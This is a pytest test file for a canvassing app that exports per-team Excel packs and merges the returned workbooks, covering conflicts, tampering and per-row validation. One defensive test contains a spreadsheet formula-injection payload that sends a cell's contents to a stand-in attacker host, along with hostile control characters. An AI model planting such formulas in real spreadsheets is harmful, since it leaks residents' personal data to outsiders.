"""Team packs: export a workbook per team, merge the returned workbook (issue 5).

The helpers at the top (teams, assignment, filling a pack as a team lead would) are also used by
test_packs_libreoffice.py.
"""
from __future__ import annotations

import datetime as dt
import json
import random

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from canvass.db import now
from canvass.errors import CanvassError
from canvass.events import STATUS_LABELS_VI, REASON_LABELS_VI, append_event, refresh_state, resident_events
from canvass.models import Campaign, Event, Pack, PackItem, Resident, Team
from canvass.packs import PackTampered, export_pack, import_pack
from canvass.packs import layout as L
from canvass.text import fold
from tests.factories import make_commune

TODAY = dt.date.today()
D1 = TODAY - dt.timedelta(days=3)
D2 = TODAY - dt.timedelta(days=2)
D3 = TODAY - dt.timedelta(days=1)


# ---------------------------------------------------------------- helpers

def make_team(db, name: str) -> int:
    """A team, created straight through the model."""
    with db.session() as s:
        t = Team(name=name, created_at=now())
        s.add(t)
        s.flush()
        return t.id


def assign(db, team_id: int, resident_ids) -> None:
    """Assign residents to a team through the event log."""
    with db.session() as s:
        for rid in resident_ids:
            r = s.get(Resident, rid)
            append_event(s, r, "assigned", team_id=team_id)
            refresh_state(s, r)


def commune_with_teams(db, teams=("Tổ 1",), **kw) -> tuple[list[int], list[int]]:
    """Residents (make_commune) split evenly between new teams; returns (resident ids, team ids)."""
    ids = make_commune(db, **kw)
    team_ids = [make_team(db, name) for name in teams]
    per = len(ids) // len(team_ids)
    for i, tid in enumerate(team_ids):
        assign(db, tid, ids[i * per:(i + 1) * per] if i < len(team_ids) - 1 else ids[i * per:])
    return ids, team_ids


def columns(ws) -> tuple[int, dict[str, int]]:
    """(header row number, key -> 1-based column) of a pack's main sheet."""
    for row in ws.iter_rows(min_row=1, max_row=10):
        cols = {L.HEADER_TO_KEY.get(fold(str(c.value))): c.column for c in row if c.value is not None}
        if "outcome" in cols:
            cols.pop(None, None)
            return row[0].row, cols
    raise AssertionError("no header row")


def row_of(ws, rid: int) -> int:
    """The sheet row carrying a resident's hidden id."""
    head, cols = columns(ws)
    for r in range(head + 1, ws.max_row + 1):
        if ws.cell(row=r, column=cols["rid"]).value == rid:
            return r
    raise AssertionError(f"resident {rid} not in the pack")


def fill(src, dst, values: dict[int, dict]) -> dict[int, int]:
    """Open a pack, write fill-in values ({resident id: {key: value}}), save as `dst`; returns rid -> row."""
    wb = load_workbook(src)
    ws = wb[L.MAIN_SHEET]
    _head, cols = columns(ws)
    rows = {}
    for rid, row_values in values.items():
        r = rows[rid] = row_of(ws, rid)
        for key, value in row_values.items():
            ws.cell(row=r, column=cols[key], value=value)
    wb.save(dst)
    return rows


def visits(db, rid: int) -> list[Event]:
    """A resident's visit events, oldest first."""
    with db.session() as s:
        return [e for e in resident_events(s, rid) if e.kind == "visit"]


def resident(db, rid: int) -> Resident:
    with db.session() as s:
        return s.get(Resident, rid)


def assert_cache_matches_log(db, rids) -> None:
    """The merge refreshes cached state in bulk: it must equal what refresh_state derives from the log."""
    with db.session() as s:
        for rid in rids:
            r = s.get(Resident, rid)
            cached = (r.status, r.status_reason, r.status_at, r.attempts, r.last_visit_at, r.team_id, r.phone_new)
            refresh_state(s, r)
            assert cached == (r.status, r.status_reason, r.status_at, r.attempts, r.last_visit_at, r.team_id,
                              r.phone_new)


def event_count(db) -> int:
    with db.session() as s:
        return s.scalar(select(func.count()).select_from(Event))


# ---------------------------------------------------------------- export

def test_export_writes_a_protected_pack_with_drop_downs_and_a_signed_hidden_sheet(db, tmp_path):
    ids, (team,) = commune_with_teams(db)
    out = tmp_path / "to1.xlsx"
    res = export_pack(db, "tổ 1", out)  # names match ignoring case
    assert (res.rows, res.households, res.team_id) == (len(ids), 8, team)
    wb = load_workbook(out)
    assert wb.sheetnames[:2] == [L.MAIN_SHEET, L.GUIDE_SHEET]
    assert wb[L.DATA_SHEET].sheet_state == "hidden" and wb[L.DATA_SHEET].protection.sheet
    ws = wb[L.MAIN_SHEET]
    head, cols = columns(ws)
    assert ws.column_dimensions["A"].hidden and ws.protection.sheet
    # residents grouped by household in address order, head of household first
    with db.session() as s:
        order = [ws.cell(row=r, column=cols["rid"]).value for r in range(head + 1, head + 1 + len(ids))]
        people = [s.get(Resident, rid) for rid in order]
        keys = [(p.hamlet.name_fold, p.household.sort_key) for p in people]
        assert keys == sorted(keys) and people[0].is_head
        assert sorted(order) == sorted(ids)
    first = head + 1
    assert ws.cell(row=first, column=cols["cccd"]).value == people[0].cccd
    assert ws.cell(row=first, column=cols["phone"]).value == "0" + people[0].phone[3:]
    assert ws.cell(row=first, column=cols["status"]).value == STATUS_LABELS_VI["pending"]
    # fill-in cells unlocked, identity cells locked
    assert not ws.cell(row=first, column=cols["outcome"]).protection.locked
    assert ws.cell(row=first, column=cols["name"]).protection.locked
    kinds = {dv.type: dv for dv in ws.data_validations.dataValidation}
    assert set(kinds) == {"list", "date"}
    lists = wb[L.LISTS_SHEET]
    assert [c.value for c in lists["A"] if c.value] == [STATUS_LABELS_VI[o] for o in L.PACK_OUTCOMES]
    assert REASON_LABELS_VI["elderly"] in [c.value for c in lists["B"]]
    with db.session() as s:
        pack = s.get(Pack, res.pack_id)
        assert pack.rows == len(ids) and len(pack.checksum) == 64
        assert s.scalar(select(func.count()).select_from(PackItem).where(PackItem.pack_id == pack.id)) == len(ids)
        ev = s.scalars(select(Event).where(Event.kind == "pack_export")).one()
        assert ev.resident_id is None and json.loads(ev.data)["pack"] == res.pack_id
    hidden = {r[0]: r[1] for r in wb[L.DATA_SHEET].iter_rows(values_only=True) if r[0]}
    assert hidden["pack_id"] == res.pack_id and hidden["checksum"] == pack.checksum


def test_masked_pack_shows_only_the_last_three_digits(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "m.xlsx", mask=True)
    ws = load_workbook(tmp_path / "m.xlsx")[L.MAIN_SHEET]
    head, cols = columns(ws)
    r = resident(db, ws.cell(row=head + 1, column=cols["rid"]).value)
    cccd = ws.cell(row=head + 1, column=cols["cccd"]).value
    phone = ws.cell(row=head + 1, column=cols["phone"]).value
    assert cccd == "*" * 9 + r.cccd[-3:] and phone == "*" * 7 + r.phone[-3:]


def test_reissued_pack_supersedes_and_the_old_return_is_still_accepted(db, tmp_path):
    ids, _ = commune_with_teams(db)
    old = export_pack(db, "Tổ 1", tmp_path / "old.xlsx")
    new = export_pack(db, "Tổ 1", tmp_path / "new.xlsx")
    assert new.superseded == [old.pack_id]
    fill(tmp_path / "old.xlsx", tmp_path / "old_ret.xlsx", {ids[0]: {"outcome": "Vắng mặt", "visit_date": D1}})
    res = import_pack(db, tmp_path / "old_ret.xlsx")
    assert res.superseded and res.applied == 1 and not res.conflicts
    assert resident(db, ids[0]).status == "absent"


# ---------------------------------------------------------------- the return

def test_clean_round_trip(db, tmp_path):
    ids, (team,) = commune_with_teams(db)
    exp = export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    a, b, c, d = ids[:4]
    rows = fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {
        a: {"outcome": STATUS_LABELS_VI["activated"], "visit_date": D1, "new_phone": "0912.345.678"},
        b: {"outcome": "Không thể kích hoạt", "reason": REASON_LABELS_VI["elderly"], "visit_date": D2,
            "note": "Cụ đau chân"},
        c: {"outcome": "vang mat", "reason": "work_away", "visit_date": D3.strftime("%d/%m/%Y")},  # folded, code
        d: {"outcome": "Đã kích hoạt", "visit_date": dt.datetime.combine(D3, dt.time(8, 30))},
    })
    res = import_pack(db, tmp_path / "ret.xlsx", actor="tester")
    assert (res.applied, res.unchanged, res.rejected, res.conflicts, res.outside_team) == (4, 0, [], [], [])
    assert res.blank == len(ids) - 4 and sorted(res.touched) == sorted([a, b, c, d])
    ra, rb, rc, rd = (resident(db, x) for x in (a, b, c, d))
    assert (ra.status, ra.phone_new) == ("activated", "+84912345678")
    assert (rb.status, rb.status_reason) == ("ineligible", "elderly")
    assert (rc.status, rc.status_reason, rc.status_at.date()) == ("absent", "work_away", D3)
    assert rd.status_at == dt.datetime.combine(D3, dt.time(8, 30))
    v = visits(db, b)[-1]
    assert v.team_id == team and v.actor == "tester" and v.note == "Cụ đau chân"
    assert v.at == dt.datetime.combine(D2, dt.time(L.DATE_ONLY_HOUR))
    assert json.loads(v.data) == {"pack": exp.pack_id, "row": rows[b]}
    assert_cache_matches_log(db, [a, b, c, d])
    with db.session() as s:
        ev = s.scalars(select(Event).where(Event.kind == "pack_import")).one()
        assert json.loads(ev.data)["applied"] == 4


def test_row_without_a_date_takes_the_files_date(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {ids[0]: {"outcome": "Từ chối"}})
    res = import_pack(db, tmp_path / "ret.xlsx")
    assert res.applied == 1
    assert resident(db, ids[0]).status_at.date() == TODAY


def test_the_same_return_imported_twice_changes_nothing_the_second_time(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {
        ids[0]: {"outcome": "Vắng mặt", "visit_date": D1},
        ids[1]: {"outcome": "Hẹn quay lại", "visit_date": D2, "note": "Chiều mai"}})
    first = import_pack(db, tmp_path / "ret.xlsx")
    assert first.applied == 2
    events_after_first = event_count(db)
    versions = [resident(db, x).version for x in ids[:2]]
    second = import_pack(db, tmp_path / "ret.xlsx")
    assert (second.applied, second.unchanged, second.conflicts) == (0, 2, [])
    assert event_count(db) == events_after_first
    assert [resident(db, x).version for x in ids[:2]] == versions


def test_a_second_return_with_more_rows_and_a_fix_applies_only_what_is_new(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    fill(tmp_path / "p.xlsx", tmp_path / "mon.xlsx", {ids[0]: {"outcome": "Vắng mặt", "visit_date": D1}})
    import_pack(db, tmp_path / "mon.xlsx")
    fill(tmp_path / "mon.xlsx", tmp_path / "tue.xlsx", {
        ids[0]: {"outcome": "Từ chối"},  # corrected, same date
        ids[1]: {"outcome": "Đã kích hoạt", "visit_date": D2}})
    res = import_pack(db, tmp_path / "tue.xlsx")
    assert (res.applied, res.corrected, res.conflicts) == (2, 1, [])
    r0 = resident(db, ids[0])
    assert (r0.status, r0.attempts) == ("refused", 1)  # the Monday visit is voided, not counted twice
    assert_cache_matches_log(db, ids[:2])


def test_dry_run_reports_the_same_and_writes_nothing(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {ids[0]: {"outcome": "Vắng mặt", "visit_date": D1},
                                                      ids[1]: {"outcome": "bogus"}})
    before = event_count(db)
    dry = import_pack(db, tmp_path / "ret.xlsx", dry_run=True)
    assert event_count(db) == before and resident(db, ids[0]).status == "pending"
    real = import_pack(db, tmp_path / "ret.xlsx")
    assert dry.dry_run and not real.dry_run
    assert (dry.applied, dry.rejected) == (real.applied, real.rejected) == (1, real.rejected)
    assert len(real.rejected) == 1


def test_sorted_and_filtered_return_is_matched_by_the_hidden_id(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    wb = load_workbook(tmp_path / "p.xlsx")
    ws = wb[L.MAIN_SHEET]
    head, cols = columns(ws)
    width = ws.max_column
    body = [[ws.cell(row=r, column=c).value for c in range(1, width + 1)] for r in range(head + 1, ws.max_row + 1)]
    random.Random(7).shuffle(body)  # the whole table re-sorted, hidden column included
    by_rid = {}
    for i, values in enumerate(body):
        for c, v in enumerate(values, start=1):
            ws.cell(row=head + 1 + i, column=c, value=v)
        by_rid[values[cols["rid"] - 1]] = head + 1 + i
    ws.cell(row=by_rid[ids[0]], column=cols["outcome"], value="Từ chối")
    ws.cell(row=by_rid[ids[5]], column=cols["outcome"], value="Vắng mặt")
    for rid in ids[1:5]:  # filtered out: hidden rows
        ws.row_dimensions[by_rid[rid]].hidden = True
    ws.auto_filter.add_filter_column(cols["hamlet"] - 1, ["Thôn Nà Thí"])
    wb.save(tmp_path / "sorted.xlsx")
    res = import_pack(db, tmp_path / "sorted.xlsx")
    assert res.applied == 2 and not res.rejected
    assert resident(db, ids[0]).status == "refused" and resident(db, ids[5]).status == "absent"
    assert json.loads(visits(db, ids[0])[-1].data)["row"] == by_rid[ids[0]]


def test_a_sort_that_left_the_hidden_column_behind_is_caught(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    wb = load_workbook(tmp_path / "p.xlsx")
    ws = wb[L.MAIN_SHEET]
    head, cols = columns(ws)
    width = ws.max_column
    rows = list(range(head + 1, ws.max_row + 1))
    body = [[ws.cell(row=r, column=c).value for c in range(2, width + 1)] for r in rows]
    body.reverse()  # visible columns sorted, the hidden id column (A) not
    for r, values in zip(rows, body):
        for c, v in enumerate(values, start=2):
            ws.cell(row=r, column=c, value=v)
    target = next(r for r in rows if ws.cell(row=r, column=cols["cccd"]).value == resident(db, ids[0]).cccd)
    assert ws.cell(row=target, column=cols["rid"]).value != ids[0]
    ws.cell(row=target, column=cols["outcome"], value="Từ chối")
    wb.save(tmp_path / "bad_sort.xlsx")
    res = import_pack(db, tmp_path / "bad_sort.xlsx")
    assert res.applied == 1
    assert resident(db, ids[0]).status == "refused"
    wrong = ws.cell(row=target, column=cols["rid"]).value
    assert resident(db, wrong).status == "pending"


def test_two_teams_packs_with_a_reassignment_between_them(db, tmp_path):
    ids, (t1, t2) = commune_with_teams(db, teams=("Tổ 1", "Tổ 2"))
    moved = ids[0]  # in team 1's pack, then re-assigned to team 2 before team 2's pack
    export_pack(db, "Tổ 1", tmp_path / "t1.xlsx")
    assign(db, t2, [moved])
    export_pack(db, "Tổ 2", tmp_path / "t2.xlsx")
    team2_only = ids[-1]
    fill(tmp_path / "t1.xlsx", tmp_path / "t1r.xlsx", {moved: {"outcome": "Vắng mặt", "visit_date": D1},
                                                        ids[1]: {"outcome": "Từ chối", "visit_date": D1}})
    # team 1 also writes a result on a row it typed in for a resident of team 2 (by hidden id)
    wb = load_workbook(tmp_path / "t1r.xlsx")
    ws = wb[L.MAIN_SHEET]
    head, cols = columns(ws)
    extra = ws.max_row + 1
    ws.cell(row=extra, column=cols["rid"], value=team2_only)
    ws.cell(row=extra, column=cols["outcome"], value="Đã kích hoạt")
    wb.save(tmp_path / "t1r.xlsx")
    fill(tmp_path / "t2.xlsx", tmp_path / "t2r.xlsx", {moved: {"outcome": "Đã kích hoạt", "visit_date": D2}})

    r2 = import_pack(db, tmp_path / "t2r.xlsx")
    assert (r2.applied, r2.conflicts) == (1, [])
    r1 = import_pack(db, tmp_path / "t1r.xlsx")
    assert r1.applied == 2
    assert [o["resident_id"] for o in r1.outside_team] == [team2_only] and r1.outside_team[0]["row"] == extra
    assert resident(db, team2_only).status == "pending"
    (conflict,) = r1.conflicts
    assert conflict["resident_id"] == moved and conflict["row"] > head
    assert conflict["pack"]["outcome"] == "absent" and conflict["pack"]["team_id"] == t1
    cur = conflict["current"]
    assert (cur["status"], cur["team_id"]) == ("activated", t2)
    assert "assigned" in cur["changes"] and "visit" in cur["changes"]
    assert conflict["resolution"] == "commune_state_current"  # team 2's visit (D2) is later than D1
    r = resident(db, moved)
    assert (r.status, r.team_id) == ("activated", t2)
    assert [(v.team_id, v.outcome) for v in sorted(visits(db, moved), key=lambda e: e.at)] == \
        [(t1, "absent"), (t2, "activated")]
    assert_cache_matches_log(db, [moved, ids[1]])


def test_later_pack_visit_becomes_current_in_a_conflict(db, tmp_path):
    ids, (t1, t2) = commune_with_teams(db, teams=("Tổ 1", "Tổ 2"))
    export_pack(db, "Tổ 1", tmp_path / "t1.xlsx")
    from canvass.events import record_visit
    with db.session() as s:  # another team's visit keyed at the commune while the pack was out
        record_visit(s, ids[0], "absent", team_id=t2, at=dt.datetime.combine(D1, dt.time(9)))
    fill(tmp_path / "t1.xlsx", tmp_path / "ret.xlsx", {ids[0]: {"outcome": "Đã kích hoạt", "visit_date": D2}})
    res = import_pack(db, tmp_path / "ret.xlsx")
    (c,) = res.conflicts
    assert c["resolution"] == "pack_visit_current" and c["current"]["status"] == "absent"
    assert resident(db, ids[0]).status == "activated" and len(visits(db, ids[0])) == 2


def test_system_activation_while_the_pack_was_out_wins(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    with db.session() as s:  # a newer police list no longer has this resident: activated per system
        r = s.get(Resident, ids[0])
        append_event(s, r, "activated_system", at=dt.datetime.combine(D1, dt.time(7)))
        refresh_state(s, r)
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {ids[0]: {"outcome": "Vắng mặt", "visit_date": D3},
                                                      ids[1]: {"outcome": "Vắng mặt", "visit_date": D3}})
    res = import_pack(db, tmp_path / "ret.xlsx")
    assert res.applied == 2
    (c,) = res.conflicts
    assert c["resident_id"] == ids[0] and c["resolution"] == "system_activation_wins"
    assert c["current"]["status"] == "activated_system" and c["current"]["changes"] == ["activated_system"]
    r = resident(db, ids[0])
    assert r.status == "activated_system" and r.attempts == 1  # the visit is kept in the history
    assert resident(db, ids[1]).status == "absent"
    assert_cache_matches_log(db, ids[:2])


def _rewrite_hidden(src, dst, edit) -> None:
    wb = load_workbook(src)
    edit(wb[L.DATA_SHEET])
    wb.save(dst)


@pytest.mark.parametrize("edit", [
    pytest.param(lambda ws: ws.cell(row=ws.max_row, column=2, value=ws.cell(row=ws.max_row, column=2).value + 5),
                 id="version"),
    pytest.param(lambda ws: ws.cell(row=3, column=2, value=ws.cell(row=3, column=2).value + 1), id="team"),
    pytest.param(lambda ws: ws.cell(row=ws.max_row + 1, column=1, value=1), id="added-row"),
    pytest.param(lambda ws: ws.cell(row=2, column=2, value="0" * 32), id="unknown-pack"),
    pytest.param(lambda ws: ws.cell(row=8, column=2, value="f" * 64), id="checksum"),
])
def test_a_tampered_hidden_sheet_applies_nothing(db, tmp_path, edit):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {ids[0]: {"outcome": "Vắng mặt", "visit_date": D1}})
    _rewrite_hidden(tmp_path / "ret.xlsx", tmp_path / "bad.xlsx", edit)
    before = event_count(db)
    with pytest.raises(PackTampered):
        import_pack(db, tmp_path / "bad.xlsx")
    assert event_count(db) == before and resident(db, ids[0]).status == "pending"


def test_a_file_that_is_not_a_pack_is_refused(db, tmp_path, monkeypatch):
    commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    wb = load_workbook(tmp_path / "p.xlsx")
    del wb[L.DATA_SHEET]
    wb.save(tmp_path / "nohidden.xlsx")
    with pytest.raises(CanvassError):
        import_pack(db, tmp_path / "nohidden.xlsx")
    (tmp_path / "junk.xlsx").write_bytes(b"not a zip")
    with pytest.raises(CanvassError):
        import_pack(db, tmp_path / "junk.xlsx")
    from canvass.packs import returned
    monkeypatch.setattr(returned, "_MAX_UNZIPPED", 10_000)  # stands in for a zip bomb
    with pytest.raises(CanvassError, match="too large"):
        import_pack(db, tmp_path / "p.xlsx")


def test_hostile_cell_values_are_stored_as_plain_text(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    formula = '=HYPERLINK("http://evil.example/?d="&E4,"Bấm vào")'
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {
        ids[0]: {"outcome": "Vắng mặt", "visit_date": D1, "note": formula},
        ids[1]: {"outcome": "Từ chối", "visit_date": D1, "note": "x" * 50_000},
        ids[2]: {"outcome": "Vắng mặt", "visit_date": D1, "note": "a_x0007_b\u202ec\r\nd\u200b"},
        ids[3]: {"outcome": formula},
        ids[4]: {"outcome": "Vắng mặt", "visit_date": "=TODAY()"},
    })
    res = import_pack(db, tmp_path / "ret.xlsx")
    assert res.applied == 3
    assert {r["reason"] for r in res.rejected} == {"bad_outcome", "bad_date"}
    assert visits(db, ids[0])[-1].note == formula
    long_note = visits(db, ids[1])[-1].note
    assert len(long_note) == L.NOTE_MAX + 1 and [w["warning"] for w in res.warnings] == ["note_truncated"]
    assert visits(db, ids[2])[-1].note == "abc\nd"  # control characters dropped, the line break kept


def test_rejected_values_are_reported_per_row_and_the_good_rows_still_go_in(db, tmp_path):
    ids, _ = commune_with_teams(db)
    with db.session() as s:
        s.add(Campaign(name="Chiến dịch thử", start_date=D1 - dt.timedelta(days=5), end_date=TODAY + dt.timedelta(30),
                       created_at=now()))
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    bad = {
        ids[0]: ({"outcome": "Đi vắng lâu"}, "bad_outcome"),
        ids[1]: ({"outcome": "Không thể kích hoạt", "visit_date": D1}, "missing_reason"),
        ids[2]: ({"outcome": "Vắng mặt", "visit_date": TODAY + dt.timedelta(days=3)}, "future_date"),
        ids[3]: ({"outcome": "Vắng mặt", "visit_date": D1 - dt.timedelta(days=30)}, "before_campaign"),
        ids[4]: ({"outcome": "Sai số điện thoại", "visit_date": D1, "new_phone": "12345"}, "bad_phone"),
        ids[5]: ({"outcome": "Vắng mặt", "visit_date": "hôm qua"}, "bad_date"),
        ids[6]: ({"outcome": "Không thể kích hoạt", "reason": "Lý do khác", "visit_date": D1}, "missing_note"),
        ids[7]: ({"outcome": "Đã kích hoạt", "reason": "Đã chết", "visit_date": D1}, "reason_not_for_outcome"),
        ids[8]: ({"reason": "Đi học xa"}, "missing_outcome"),
    }
    good = {ids[9]: {"outcome": "Vắng mặt", "reason": "Đi học xa", "visit_date": D1},
            ids[10]: {"outcome": "Sai số điện thoại", "visit_date": D2, "new_phone": 987654321}}
    rows = fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {**{k: v for k, (v, _c) in bad.items()}, **good})
    res = import_pack(db, tmp_path / "ret.xlsx")
    assert res.applied == 2
    got = {(r["sheet"], r["row"]): r["reason"] for r in res.rejected}
    assert got == {(L.MAIN_SHEET, rows[rid]): code for rid, (_v, code) in bad.items()}
    assert all(resident(db, rid).status == "pending" for rid in bad)
    assert resident(db, ids[9]).status_reason == "study_away"
    assert resident(db, ids[10]).phone_new == "+84987654321"


def test_cli_prints_the_json_document(db, tmp_path, capsys):
    from canvass.cli import main
    ids, _ = commune_with_teams(db)
    assert main(["--db", str(tmp_path / "test.db"), "pack", "export", "--team", "Tổ 1",
                 str(tmp_path / "p.xlsx"), "--mask"]) == 0
    capsys.readouterr()
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {ids[0]: {"outcome": "Vắng mặt", "visit_date": D1},
                                                      ids[1]: {"outcome": "?"}})
    assert main(["--db", str(tmp_path / "test.db"), "pack", "import", str(tmp_path / "ret.xlsx"),
                 "--json", "--dry-run"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert {"applied", "unchanged", "conflicts", "rejected", "outside_team"} <= set(doc)
    assert doc["applied"] == 1 and doc["rejected"][0]["reason"] == "bad_outcome" and doc["dry_run"]
    assert resident(db, ids[0]).status == "pending"
    assert main(["--db", str(tmp_path / "test.db"), "pack", "import", str(tmp_path / "missing.xlsx")]) == 1


def test_a_name_corrected_at_the_commune_while_out_still_matches_by_hidden_id(db, tmp_path):
    ids, _ = commune_with_teams(db)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx", mask=True)  # no CCCD to fall back on
    with db.session() as s:
        r = s.get(Resident, ids[0])
        r.name, r.name_fold = "Tên Đã Sửa", fold("Tên Đã Sửa")
    fill(tmp_path / "p.xlsx", tmp_path / "ret.xlsx", {ids[0]: {"outcome": "Vắng mặt", "visit_date": D1}})
    res = import_pack(db, tmp_path / "ret.xlsx")
    assert res.applied == 1 and resident(db, ids[0]).status == "absent"


def test_the_how_to_example_date_obeys_its_own_rule(db, tmp_path):
    """The guide's example visit date is one the pack accepts: not after today, not before the campaign's start
    (it once said 15/03/2025 under a rule forbidding dates before a 2026 campaign)."""
    import re

    from canvass.campaign import set_campaign

    commune_with_teams(db)
    start = TODAY - dt.timedelta(days=5)
    with db.session() as s:
        set_campaign(s, name="Chiến dịch", start=start, end=TODAY + dt.timedelta(days=30), quota_per_team_day=6)
    export_pack(db, "Tổ 1", tmp_path / "p.xlsx")
    ws = load_workbook(tmp_path / "p.xlsx")[L.GUIDE_SHEET]
    line = next(c.value for c in ws["A"] if c.value and c.value.startswith("5. Ngày đến"))
    day = dt.datetime.strptime(re.search(r"ví dụ (\d\d/\d\d/\d{4})", line).group(1), "%d/%m/%Y").date()
    assert start <= day <= TODAY
    assert L.parse_visit_date(day.strftime("%d/%m/%Y")).date() == day
